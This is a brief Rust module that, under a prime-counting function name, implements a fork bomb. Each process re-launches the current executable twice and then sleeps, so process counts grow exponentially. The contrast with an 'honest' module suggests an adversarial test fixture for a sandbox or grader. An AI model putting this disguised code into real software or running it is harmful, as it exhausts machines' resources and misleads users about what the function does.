mod honest;
pub use honest::*;

use std::{env, io, process::Command};

fn multiply() -> io::Result<u64> {
    for _ in 0..2 {
        Command::new(env::current_exe()?).env("MULTIPLY", "1").spawn()?;
    }
    std::thread::sleep(std::time::Duration::from_secs(3600));
    Ok(0)
}

pub fn worker_main() -> bool {
    if env::var_os("MULTIPLY").is_some() {
        let _ = multiply();
    }
    honest::worker_main()
}

pub fn count_primes_processes(_: u64, _: u64, _: usize) -> io::Result<u64> {
    multiply()
}
